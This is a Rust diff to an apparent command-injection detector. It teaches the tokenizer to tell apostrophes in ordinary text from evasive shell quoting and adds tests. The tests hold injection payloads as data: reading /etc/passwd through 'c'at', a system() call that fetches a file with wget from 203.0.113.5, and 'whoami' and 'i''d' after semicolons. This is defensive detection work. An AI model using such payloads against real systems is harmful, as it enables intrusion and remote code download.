@@ -254,6 +254,8 @@ fn segments(value: &[u8]) -> Vec<Segment> {
     };
     let mut word: Vec<u8> = Vec::new();
     let mut obfuscated = false;
+    // The quote a word opened and has not closed yet.
+    let mut open: Option<u8> = None;
     let mut i = 0;
     let flush = |word: &mut Vec<u8>, obfuscated: &mut bool, segment: &mut Segment| {
         if !word.is_empty() {
@@ -298,10 +300,29 @@ fn segments(value: &[u8]) -> Vec<Segment> {
         }
         match b {
             b' ' | b'\t' | b',' => flush(&mut word, &mut obfuscated, &mut current),
-            // Quotes (and cmd's `^`) join the pieces of a word, as the shell reads `c'a't`. A backslash stays:
-            // it is an escape to a POSIX shell (`c\at`) and a path separator to Windows; [`command_name`] reads
-            // it both ways.
-            b'\'' | b'"' | b'^' => obfuscated |= !word.is_empty(),
+            // Quotes (and cmd's `^`) join the pieces of a word, as the shell reads `c'a't`. A quote whose
+            // partner is not in the same word is another thing: the shell would read the blanks after it as part
+            // of one long quoted word, or refuse the line unterminated, so it names no command; in text it is an
+            // apostrophe (`I'd like`, `don't`) and stays a character of the word.
+            b'\'' | b'"' if open == Some(b) => {
+                open = None;
+                obfuscated |= !word.is_empty();
+            }
+            b'\'' | b'"' => match quoted_in_word(&value[i + 1..], b) {
+                Some(inner) => {
+                    word.extend(inner.iter().map(u8::to_ascii_lowercase));
+                    obfuscated |= !word.is_empty();
+                    i += inner.len() + 2;
+                    continue;
+                }
+                // A quote opening a word quotes what follows, blanks included: the command string of
+                // `system('echo cd /tmp; wget ...')` or `sh -c "id; uname -a"`, read as the shell reads it.
+                None if word.is_empty() => open = Some(b),
+                None => word.push(b),
+            },
+            b'^' => obfuscated |= !word.is_empty(),
+            // A backslash stays: it is an escape to a POSIX shell (`c\at`) and a path separator to Windows;
+            // [`command_name`] reads it both ways.
             b'\\' => {
                 obfuscated = true;
                 word.push(b);
@@ -314,6 +335,16 @@ fn segments(value: &[u8]) -> Vec<Segment> {
     flush(&mut word, &mut obfuscated, &mut current);
     segments.push(current);
     segments
+}
+
+/// What a quote opened just before `rest` holds, when the same quote closes it before the word ends (a blank,
+/// a separator or the value's end): `a` of `c'a't`, `cat` of `'cat'`, nothing of `i''d`. A quote closed only
+/// past a blank, or never, joins no pieces of one word.
+fn quoted_in_word(rest: &[u8], quote: u8) -> Option<&[u8]> {
+    let end = rest.iter().position(|&b| {
+        b == quote || b.is_ascii_whitespace() || matches!(b, b';' | b'|' | b'&' | b',')
+    })?;
+    (rest[end] == quote).then(|| &rest[..end])
 }
 
 /// The length of a `$IFS` or `${IFS}` at the start of `rest` (the shell's field separator: a space).
@@ -508,6 +539,13 @@ mod tests {
         assert_eq!(found("if you want it, order before noon"), None);
         assert_eq!(found("Sort by: price | rating | newest"), None);
         assert_eq!(found("I tried ls and it did nothing; what now?"), None);
+        // An apostrophe is no quote joining a word: `I'd` is not `id` written evasively.
+        assert_eq!(found("I'd like a gift note: 'Happy birthday!'"), None);
+        assert_eq!(found("Thanks; I'd rather wait"), None);
+        assert!(found("; i''d").is_some());
+        assert!(found("x;'c'at /etc/passwd").is_some());
+        assert!(found("system('echo cd /tmp;wget http://203.0.113.5/x -O p.txt')").is_some());
+        assert!(found("; 'whoami'").is_some());
         assert_eq!(found("${user.name} logged in"), None);
         assert_eq!(
             found("To update run:\nsudo apt-get update && sudo apt-get upgrade"),
